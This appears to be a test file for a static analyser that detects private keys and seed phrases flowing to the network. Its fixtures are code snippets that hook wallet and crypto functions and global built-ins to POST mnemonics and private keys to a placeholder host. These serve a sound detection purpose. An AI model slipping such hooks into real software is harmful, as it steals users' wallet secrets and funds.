import { describe, expect, it } from 'vitest';
import { analyseSources } from '../testing/analyseSources.ts';

async function sent(file: string, text: string): Promise<string[]> {
  const { flows } = await analyseSources({ [file]: text });
  return flows.filter(({ source, sink }) => source === 'key' && sink === 'network').map(({ confidence }) => confidence);
}
const javaScript = (body: string): Promise<string[]> =>
  sent(
    'a.js',
    `const send = (x) => fetch('https://a.example.invalid', { method: 'POST', body: x });
const e = require('ethers'), c = require('crypto'), b = require('bip39');
${body}`,
  );
const python = (body: string): Promise<string[]> =>
  sent(
    'a.py',
    `import requests, json, functools, hashlib
from eth_account import Account
def send(x):
    requests.post('https://a.example.invalid', data=x)
${body}`,
  );

describe('what is given to a function that takes the place of one that takes a key is followed', () => {
  it.each([
    ['a function', 'const old = e.Wallet.fromPhrase; e.Wallet.fromPhrase = function (p) { send(p); return old(p) }'],
    ['of the runtime', 'const old = c.createHmac; c.createHmac = (a, k) => { send(String(k)); return old(a, k) }'],
    ['under a name put together', "e.Wallet['from' + 'Phrase'] = (p) => send(p)"],
    ['under names in turn', "for (const m of ['mnemonicToSeed', 'mnemonicToSeedSync']) b[m] = (p) => send(p)"],
    [
      'by its arguments',
      'const old = c.createHmac; c.createHmac = function () { send(arguments[1]); return old.apply(this, arguments) }',
    ],
    ['by all arguments', 'c.createHmac = function (...all) { send(JSON.stringify(all)) }'],
    ['by a part of its arguments', 'c.createHmac = function (...all) { all.forEach((x) => send(x + "")) }'],
    [
      'by a wrapper',
      'const wrap = (f) => function (p) { send(p); return f.call(this, p) }; b.mnemonicToSeed = wrap(b.mnemonicToSeed)',
    ],
    ['by defineProperty', "Object.defineProperty(b, 'mnemonicToSeed', { value: (p) => send(p) })"],
    ['by a getter', "Object.defineProperty(b, 'mnemonicToSeed', { get: () => (p) => send(p) })"],
    [
      'by a descriptor from elsewhere',
      "const d = () => ({ value: (p) => send(p) }); Object.defineProperty(b, 'mnemonicToSeed', d())",
    ],
    ['by Object.assign', 'Object.assign(e.Wallet, { fromPhrase(p) { send(p) } })'],
    ['by Reflect.set', "Reflect.set(e.Wallet, 'fromPhrase', (p) => send(p))"],
    [
      'by a proxy',
      'e.Wallet.fromPhrase = new Proxy(e.Wallet.fromPhrase, { apply(f, self, list) { send(list[0]); return f.apply(self, list) } })',
    ],
    ['by a class', 'e.Wallet = class extends e.Wallet { constructor(k, p) { super(k, p); send(k) } }'],
    [
      'by a proxy of a class',
      'e.Wallet = new Proxy(e.Wallet, { construct(f, list) { send(list[0]); return new f(...list) } })',
    ],
    [
      'by a proxy of a library',
      'e.utils = new Proxy(e.utils, { get(o, m) { return (x) => { send(x); return o[m](x) } } })',
    ],
    [
      'by a library that wraps',
      "require('shimmer').wrap(b, 'mnemonicToSeed', (old) => function (p) { send(p); return old(p) })",
    ],
    [
      'whatever the name',
      'for (const m of Object.keys(e.Wallet)) { const old = e.Wallet[m]; e.Wallet[m] = function (...all) { send(all + ""); return old.apply(this, all) } }',
    ],
    [
      'of its object',
      'const old = e.SigningKey.prototype.sign; e.SigningKey.prototype.sign = function (d) { send(this.privateKey); return old.call(this, d) }',
    ],
    [
      'of its object by another name',
      'e.Wallet.prototype.signMessage = function (d) { const self = this; setTimeout(() => send(self.mnemonic.phrase)) }',
    ],
    [
      'of its object in another function',
      'const take = (w) => send(w.privateKey); e.Wallet.prototype.signMessage = function (d) { take(this) }',
    ],
    ['of its object as a whole', 'e.SigningKey.prototype.sign = function (d) { send(JSON.stringify(this)) }'],
    [
      'of its object by a proxy',
      'e.Wallet.prototype.signMessage = new Proxy(e.Wallet.prototype.signMessage, { apply(f, self, list) { send(self.privateKey); return f.apply(self, list) } })',
    ],
    [
      'what the one that was there gives',
      'const old = b.generateMnemonic; b.generateMnemonic = function () { const m = old.apply(this, arguments); send(m); return m }',
    ],
    ['from a module that an import names', "import('ethers').then((m) => { m.Wallet.fromPhrase = (p) => send(p) })"],
  ])('%s', async (_, body) => {
    const found = await javaScript(body);
    expect(found).not.toEqual([]);
    expect(found[0]).not.toBe('low');
  });
  it.each([
    ['a function', 'old = Account.from_key\ndef f(k):\n    send(k)\n    return old(k)\nAccount.from_key = f'],
    ['a method', 'def f(self, k):\n    send(k)\nAccount.from_key = f'],
    ['a class method', 'def f(cls, k):\n    send(k)\nAccount.from_key = classmethod(f)'],
    ['by name', "def f(k):\n    send(k)\nsetattr(Account, 'from_key', f)"],
    [
      'with all arguments',
      'old = hashlib.pbkdf2_hmac\ndef f(*a, **k):\n    send(a[1])\n    return old(*a, **k)\nhashlib.pbkdf2_hmac = f',
    ],
    [
      'with its wrapper',
      'old = Account.from_key\n@functools.wraps(old)\ndef f(k):\n    send(k)\n    return old(k)\nAccount.from_key = f',
    ],
    [
      'of its object',
      'from nacl.signing import SigningKey\ndef f(self, m):\n    send(self.private_key)\nSigningKey.sign = f',
    ],
  ])('Python: %s', async (_, body) => {
    expect(await python(body)).not.toEqual([]);
  });
});

describe('what goes through a function that carries everything, and is replaced, is followed', () => {
  it.each([
    [
      'JSON.stringify',
      'const old = JSON.stringify; JSON.stringify = function (x, ...r) { send(old(x)); return old(x, ...r) }',
    ],
    ['Buffer.from', 'const old = Buffer.from; Buffer.from = function (x, ...r) { send(x); return old(x, ...r) }'],
    [
      'push',
      'const old = Array.prototype.push; Array.prototype.push = function (...x) { send(x.join()); return old.apply(this, x) }',
    ],
    [
      'call',
      'const old = Function.prototype.call; Function.prototype.call = function (...x) { send(String(x)); return Reflect.apply(old, this, x) }',
    ],
    [
      'then',
      'const old = Promise.prototype.then; Promise.prototype.then = function (f, g) { return old.call(this, (x) => { send(x); return f(x) }, g) }',
    ],
    ['toJSON', 'Object.prototype.toJSON = function () { send(this); return this }'],
    ['a setter of every object', "Object.defineProperty(Object.prototype, 'privateKey', { set(v) { send(v) } })"],
    ['a setter of every object, of old', "Object.prototype.__defineSetter__('privateKey', (v) => send(v))"],
    [
      'a file that is read',
      "const fs = require('fs'), old = fs.readFileSync; fs.readFileSync = function (p, o) { const t = old.call(this, p, o); send(t); return t }",
    ],
  ])('%s', async (_, body) => {
    const found = await javaScript(body);
    expect(found).not.toEqual([]);
    expect(found[0]).not.toBe('low');
  });
  it('Python: json.dumps', async () => {
    const body = 'old = json.dumps\ndef f(x, **k):\n    send(old(x))\n    return old(x, **k)\njson.dumps = f';
    expect(await python(body)).toEqual(['medium']);
  });
});

describe('hooks that send nothing of what they are given', () => {
  it.each([
    [
      'a counter of all calls',
      'const n = {}; for (const m of Object.keys(e.Wallet)) { const old = e.Wallet[m]; e.Wallet[m] = function (...all) { n[m] = (n[m] || 0) + 1; send(JSON.stringify(n)); return old.apply(this, all) } }',
    ],
    [
      'a counter of calls',
      'let n = 0; const old = e.Wallet.fromPhrase; e.Wallet.fromPhrase = function (p) { n++; send(String(n)); return old.call(this, p) }',
    ],
    [
      'a tracer of names and times',
      "for (const m of ['createHmac', 'createSign']) { const old = c[m]; c[m] = function (...all) { const t = Date.now(); const r = old.apply(this, all); send(JSON.stringify({ m, ms: Date.now() - t, count: all.length })); return r } }",
    ],
    [
      'a tracer of requests',
      "const h = require('http'), old = h.request; h.request = function (...all) { const r = old.apply(this, all); send(JSON.stringify({ start: Date.now() })); return r }",
    ],
    [
      'a check of what is given',
      "const old = b.mnemonicToSeed; b.mnemonicToSeed = function (p) { if (typeof p !== 'string') throw new TypeError('text'); return old(p) }",
    ],
    [
      'a polyfill beside a client',
      'if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n < 0 ? this.length + n : n] }; exports.ask = (x) => send(JSON.stringify(x))',
    ],
    [
      'a JSON of its own beside a client',
      'const old = JSON.stringify; JSON.stringify = function (x) { return old(x, (k, v) => (typeof v === "bigint" ? String(v) : v)) }; exports.ask = (x) => send(JSON.stringify(x))',
    ],
    [
      'a way to write large numbers',
      'BigInt.prototype.toJSON = function () { return this.toString() }; exports.ask = (x) => send(JSON.stringify(x))',
    ],
    [
      'a promise that keeps where it began',
      'const old = Promise.prototype.then; Promise.prototype.then = function (f, g) { const at = new Error().stack; return old.call(this, f, (e) => { send(at); return g(e) }) }',
    ],
    [
      'a signer whose signature is sent',
      'const old = e.Wallet.prototype.signTransaction; e.Wallet.prototype.signTransaction = async function (t) { const s = await old.call(this, t); send(s); return s }',
    ],
    [
      'the address of a signer',
      'const old = e.Wallet.prototype.signMessage; e.Wallet.prototype.signMessage = function (m) { send(this.address); return old.call(this, m) }',
    ],
    ['a function in a list of them', 'const all = new Array(2); all[0] = function () { send(this.privateKey) }'],
    ['a test double', "e.Wallet.fromPhrase = () => ({ address: '0x0' }); exports.ask = (x) => send(x)"],
  ])('%s', async (_, body) => {
    expect(await javaScript(body)).toEqual([]);
  });
  it('Python: a tracer', async () => {
    const body =
      "import time\nold = Account.from_key\n@functools.wraps(old)\ndef f(*a, **k):\n    t = time.time()\n    r = old(*a, **k)\n    send(json.dumps({'ms': time.time() - t, 'name': old.__name__}))\n    return r\nAccount.from_key = f";
    expect(await python(body)).toEqual([]);
  });
});
